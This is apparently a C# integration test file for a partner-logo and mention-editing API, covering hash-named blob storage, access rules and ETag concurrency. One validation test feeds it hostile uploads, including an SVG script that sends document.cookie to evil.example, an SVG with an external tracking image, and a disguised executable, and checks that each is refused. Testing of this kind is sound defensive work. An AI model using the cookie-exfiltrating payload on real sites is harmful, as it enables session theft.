using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Azure.Data.Tables;
using TutorBot.Features.Partners;

namespace TutorBot.Tests.Partners;

/// <summary><c>/api/partners</c> through HTTP against Azurite: logo versions in Blob Storage, mentions edited with If-Match.</summary>
[TestClass]
public sealed class PartnersApiTests
{
    [TestMethod]
    public async Task AGoodPngAndAGoodSvgAreStoredOnceUnderTheirHash()
    {
        await using var kit = await PartnersKit.StartAsync();
        var ups = kit.Token(PartnersKit.UpsLogin);
        var png = PartnersKit.Png(240, 90);
        var svg = PartnersKit.Svg("<rect width=\"120\" height=\"40\" fill=\"#5a2d82\"/>");

        var first = await kit.UploadAsync("ups", png, "ups.png", "image/png", ups);
        var stored = await first.Content.ReadFromJsonAsync<JsonElement>();
        Assert.AreEqual(HttpStatusCode.Created, first.StatusCode, stored.ToString());
        Assert.AreEqual(PartnersKit.Sha256(png), stored.GetProperty("hash").GetString());
        Assert.AreEqual(240, stored.GetProperty("width").GetInt32());

        var again = await kit.UploadAsync("ups", png, "same-logo-other-name.png", "image/png", ups);
        Assert.AreEqual(HttpStatusCode.OK, again.StatusCode, "the same content is the same version");
        Assert.AreEqual(PartnersKit.Sha256(png), (await again.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("hash").GetString());
        CollectionAssert.AreEquivalent(new[] { PartnersKit.Sha256(png) + ".png" }, await kit.BlobNamesAsync(), "one blob, named by its hash");
        var blob = kit.Logos.GetBlobClient(PartnersKit.Sha256(png) + ".png");
        var etag = (await blob.GetPropertiesAsync()).Value.ETag;

        var vector = await kit.UploadAsync("ups", svg, "ups.svg", "image/svg+xml", kit.Coordinator);
        Assert.AreEqual(HttpStatusCode.Created, vector.StatusCode, await vector.Content.ReadAsStringAsync());
        Assert.AreEqual(HttpStatusCode.OK, (await kit.UploadAsync("ups", svg, "ups.svg", "image/svg+xml", ups)).StatusCode);
        CollectionAssert.AreEquivalent(new[] { PartnersKit.Sha256(png) + ".png", PartnersKit.Sha256(svg) + ".svg" }, await kit.BlobNamesAsync());
        Assert.AreEqual(etag, (await blob.GetPropertiesAsync()).Value.ETag, "a version is never written again");
        Assert.AreEqual("image/svg+xml", (await kit.Logos.GetBlobClient(PartnersKit.Sha256(svg) + ".svg").GetPropertiesAsync()).Value.ContentType);

        var current = (await kit.Table.GetEntityAsync<TableEntity>(PartnersKeys.LogoPartition("ups"), PartnersKeys.CurrentLogo)).Value;
        Assert.AreEqual(PartnersKit.Sha256(svg), current.GetString("Hash"), "the organisation's current version is the last uploaded");
        var versions = new List<string>();
        await foreach (var e in kit.Table.QueryAsync<TableEntity>(e => e.PartitionKey == PartnersKeys.LogoPartition("ups")))
        {
            versions.Add(e.RowKey);
        }

        CollectionAssert.AreEquivalent(new[] { PartnersKit.Sha256(png), PartnersKit.Sha256(svg), PartnersKeys.CurrentLogo }, versions);
    }

    [TestMethod]
    public async Task OversizedDisguisedScriptedOrExternalLogosAre400AndNothingIsStored()
    {
        await using var kit = await PartnersKit.StartAsync(new() { ["Partners:LogoMaxBytes"] = "4096" });
        var ups = kit.Token(PartnersKit.UpsLogin);

        async Task Refused(byte[] file, string name, string type, string code, string because, params object[] args)
        {
            var response = await kit.UploadAsync("ups", file, name, type, ups, "en");
            var body = await response.Content.ReadAsStringAsync();
            Assert.AreEqual(HttpStatusCode.BadRequest, response.StatusCode, because + ": " + body);
            Assert.AreEqual("application/problem+json", response.Content.Headers.ContentType?.MediaType, because);
            var problem = JsonDocument.Parse(body).RootElement;
            Assert.AreEqual(code, problem.GetProperty("code").GetString(), because);
            Assert.AreEqual(PartnersKit.Text(code, "en", args), problem.GetProperty("detail").GetString(), because);
        }

        await Refused(PartnersKit.Png(16, 16, padding: 5000), "big.png", "image/png", "Logo_TooLarge", "over Partners:LogoMaxBytes", 4);
        await Refused(Encoding.UTF8.GetBytes("MZ\x90\0 this is an executable, not a logo"), "logo.png", "image/png", "Logo_NotAnImage", "a .png with other content");
        await Refused(PartnersKit.Svg("<rect width=\"10\" height=\"10\"/>"), "logo.png", "image/png", "Logo_Disguised", "an SVG declared as PNG");
        await Refused(PartnersKit.Svg("<script>fetch('https://evil.example/'+document.cookie)</script>"), "logo.svg", "image/svg+xml", "Logo_SvgScript", "an SVG with a script");
        await Refused(PartnersKit.Svg("<image href=\"https://evil.example/pixel.png\" width=\"1\" height=\"1\"/>"), "logo.svg", "image/svg+xml", "Logo_SvgExternal", "an SVG with an external href");
        await Refused(PartnersKit.Svg("<rect/>", "width=\"9000\" height=\"10\""), "logo.svg", "image/svg+xml", "Logo_TooWide", "wider than Partners:LogoMaxWidth", 4096, 4096);

        Assert.AreEqual(0, (await kit.BlobNamesAsync()).Count, "no blob for a refused file");
        Assert.IsFalse((await kit.Table.GetEntityIfExistsAsync<TableEntity>(PartnersKeys.LogoPartition("ups"), PartnersKeys.CurrentLogo)).HasValue);
    }

    [TestMethod]
    public async Task OnlyTheOrganisationsCorrespondentOrACoordinatorUploadsItsLogo()
    {
        await using var kit = await PartnersKit.StartAsync();
        var png = PartnersKit.Png(32, 32);
        await PartnersKit.AssertProblemAsync(HttpStatusCode.Forbidden, await kit.UploadAsync("ups", png, "x.png", "image/png", kit.Token(PartnersKit.AcademieLogin)), "the Académie's correspondent for UPS");
        await PartnersKit.AssertProblemAsync(HttpStatusCode.Forbidden, await kit.UploadAsync(PartnersKit.Association, png, "x.png", "image/png", kit.Token(PartnersKit.UpsLogin)), "UPS's correspondent for Passeport Avenir");
        Assert.AreEqual(0, (await kit.BlobNamesAsync()).Count);
        Assert.AreEqual(HttpStatusCode.Created, (await kit.UploadAsync("academie-aix-marseille", png, "x.png", "image/png", kit.Token(PartnersKit.AcademieLogin))).StatusCode);
    }

    [TestMethod]
    public async Task AMentionIsEditedByItsCorrespondentWithIfMatchAndReachesTheAddin()
    {
        await using var kit = await PartnersKit.StartAsync();
        var ups = kit.Token(PartnersKit.UpsLogin);
        var path = $"/api/partners/agreements/{PartnersKit.UpsAgreement}/parties/ups";

        var read = await kit.GetAsync(path, ups);
        Assert.AreEqual(HttpStatusCode.OK, read.StatusCode);
        var etag = read.Headers.ETag!.Tag;

        Task<HttpResponseMessage> Put(object body, string token, string? ifMatch, string language = "fr")
        {
            var request = new HttpRequestMessage(HttpMethod.Put, path + "/mention") { Content = JsonContent.Create(body) };
            if (ifMatch is not null)
            {
                request.Headers.IfMatch.ParseAdd(ifMatch);
            }

            return kit.Roster.SendAsync(request, token, language);
        }

        var edit = new { mentionFr = "Avec l'UPS, l'union des professeurs de prépas scientifiques.", mentionEn = "With the UPS, the union of science preparatory class teachers." };
        await PartnersKit.AssertProblemAsync(HttpStatusCode.Forbidden, await Put(edit, kit.Token(PartnersKit.AcademieLogin), etag), "another organisation's correspondent");
        await PartnersKit.AssertProblemAsync(HttpStatusCode.Forbidden, await Put(edit, kit.Token(PartnersKit.CompanyLogin), etag), "a company's correspondent");

        var empty = await Put(new { mentionFr = "  ", mentionEn = "ok" }, ups, etag, "en");
        var emptyBody = await empty.Content.ReadFromJsonAsync<JsonElement>();
        Assert.AreEqual(HttpStatusCode.BadRequest, empty.StatusCode);
        Assert.AreEqual("application/problem+json", empty.Content.Headers.ContentType?.MediaType);
        Assert.AreEqual(PartnersKit.Text("Mention_Empty", "en"), emptyBody.GetProperty("errors").GetProperty("mentionFr")[0].GetString());
        var longer = await Put(new { mentionFr = new string('a', 501), mentionEn = "ok" }, ups, etag);
        Assert.AreEqual(HttpStatusCode.BadRequest, longer.StatusCode);
        Assert.AreEqual(PartnersKit.Text("Mention_TooLong", "fr", 500), (await longer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").GetProperty("mentionFr")[0].GetString());

        var saved = await Put(edit, ups, etag);
        Assert.AreEqual(HttpStatusCode.OK, saved.StatusCode, await saved.Content.ReadAsStringAsync());
        Assert.AreNotEqual(etag, saved.Headers.ETag!.Tag);
        Assert.AreEqual(HttpStatusCode.PreconditionFailed, (await Put(edit with { }, kit.Coordinator, etag)).StatusCode, "a stale ETag");

        var coordinatorEdit = await Put(new { mentionFr = edit.mentionFr + " (2)", mentionEn = edit.mentionEn }, kit.Coordinator, saved.Headers.ETag!.Tag);
        Assert.AreEqual(HttpStatusCode.OK, coordinatorEdit.StatusCode, "a coordinator may edit any party's mention");

        var seen = await (await kit.GetAsync("/api/addin/agreements", kit.Coordinator)).Content.ReadFromJsonAsync<JsonElement>();
        var party = seen.GetProperty("agreements").EnumerateArray().Single(a => a.GetProperty("id").GetString() == PartnersKit.UpsAgreement)
            .GetProperty("parties").EnumerateArray().Single(p => p.GetProperty("organisationId").GetString() == "ups");
        Assert.AreEqual(edit.mentionFr + " (2)", party.GetProperty("mentionFr").GetString());
        Assert.AreEqual(edit.mentionEn, party.GetProperty("mentionEn").GetString());
        Assert.IsTrue(party.GetProperty("logoExpected").GetBoolean(), "the clauses stay as they were");
    }
}
